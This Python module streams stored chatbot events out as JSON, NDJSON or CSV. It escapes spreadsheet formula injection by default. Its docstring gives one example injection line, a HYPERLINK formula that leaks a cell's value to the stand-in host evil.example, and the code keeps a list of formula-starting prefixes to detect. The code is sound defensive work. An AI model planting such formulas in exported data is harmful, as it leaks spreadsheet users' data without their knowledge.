"""Events as JSON, NDJSON and CSV text, streamed from a store in constant memory.

Shared by the API's export and the export_conversations command. Each
writer yields strings of about 64 KB; events come as the store's JSON text
(`filtered_events_json`), so NDJSON needs no decoding at all.

CSV is opened in spreadsheets, which run a cell that starts like a formula:
a user who typed `=HYPERLINK("http://evil.example/?leak="&B3,"x")` would
have it run on the reader's machine. Such cells are written with a leading
`'` by default (OWASP's "CSV Injection" rule), which spreadsheets read as
"this is text" and do not show; `formulas="raw"` writes them as stored.
"""

import csv
import io
import json
import math

import orjson

from . import matching
from .exceptions import StoreError

CSV_COLUMNS = ["sender_id", "timestamp", "type", "intent", "confidence", "action", "text", "data"]

# What a cell must not start with: OWASP's = + - @ tab and CR, ASVS 1.2.10's
# NUL, and LF beside CR (no stored text needs to start with a line break unescaped).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
CSV_FORMULAS = ("escape", "raw")


def chunked(pieces, size=65536):
    """Join small strings into chunks: each chunk costs a trip through Django's response machinery."""
    buffer, length = [], 0
    for piece in pieces:
        buffer.append(piece)
        length += len(piece)
        if length >= size:
            yield "".join(buffer)
            buffer, length = [], 0
    if buffer:
        yield "".join(buffer)


def json_pairs(store, flt):
    def pieces():
        yield "["
        separator = "\n"
        for sender_id, event_json in store.filtered_events_json(flt):
            yield f'{separator}{{"sender_id": {json.dumps(sender_id)}, "event": {event_json}}}'
            separator = ",\n"
        yield "\n]\n"
    return chunked(pieces())


def ndjson_lines(store, flt):
    # Each line is the event with sender_id added first: spliced into the
    # event's JSON text rather than decoded and encoded again.
    return chunked(f'{{"sender_id": {json.dumps(sender_id)}, {event_json[1:]}\n' if event_json != "{}"
                    else f'{{"sender_id": {json.dumps(sender_id)}}}\n'
                    for sender_id, event_json in store.filtered_events_json(flt))


def csv_row(sender_id, event, event_json):
    kind = event.get("event")
    return [
        sender_id,
        event.get("timestamp"),
        kind,
        matching.intent_of(event) if kind == "user" else None,
        matching.confidence_of(event) if kind == "user" else None,
        event.get("name") if kind == "action" else None,
        event.get("text") if isinstance(event.get("text"), str) else None,
        event_json,
    ]


def spreadsheet_safe(cell):
    """`cell` as a spreadsheet reads it as it is: text that would start a formula gets a leading '.

    Numbers stay numbers: csv writes an int or a finite float as a plain
    decimal (`-1.5`, `-1e-05`), which spreadsheets read as a number, never as
    a formula, and a quote would turn it into text. Only what is stored as a
    string is escaped, in every column: a timestamp another program stored as
    "=1+1" is text, not a number.
    """
    if isinstance(cell, float) and cell == -math.inf:
        cell = "-inf"  # as csv would write it: a formula to a spreadsheet, not a number
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def parse_event_json(event_json):
    # orjson is several times faster; json takes what it refuses (NaN, huge integers).
    try:
        return orjson.loads(event_json)
    except orjson.JSONDecodeError:
        pass
    try:
        return json.loads(event_json)
    except RecursionError:
        raise StoreError("A stored event is nested too deeply to read; it can't be exported as CSV.") from None


def csv_rows(store, flt, *, formulas="escape"):
    """CSV text of the events `flt` selects; `formulas` is "escape" (see spreadsheet_safe) or "raw"."""
    if formulas not in CSV_FORMULAS:
        raise ValueError(f"formulas must be one of {CSV_FORMULAS}, not {formulas!r}")
    escape = formulas == "escape"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(CSV_COLUMNS)
    rows = []
    for sender_id, event_json in store.filtered_events_json(flt):
        row = csv_row(sender_id, parse_event_json(event_json), event_json)
        rows.append([spreadsheet_safe(cell) for cell in row] if escape else row)
        if len(rows) == 500:
            writer.writerows(rows)
            rows.clear()
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    writer.writerows(rows)
    yield buffer.getvalue()
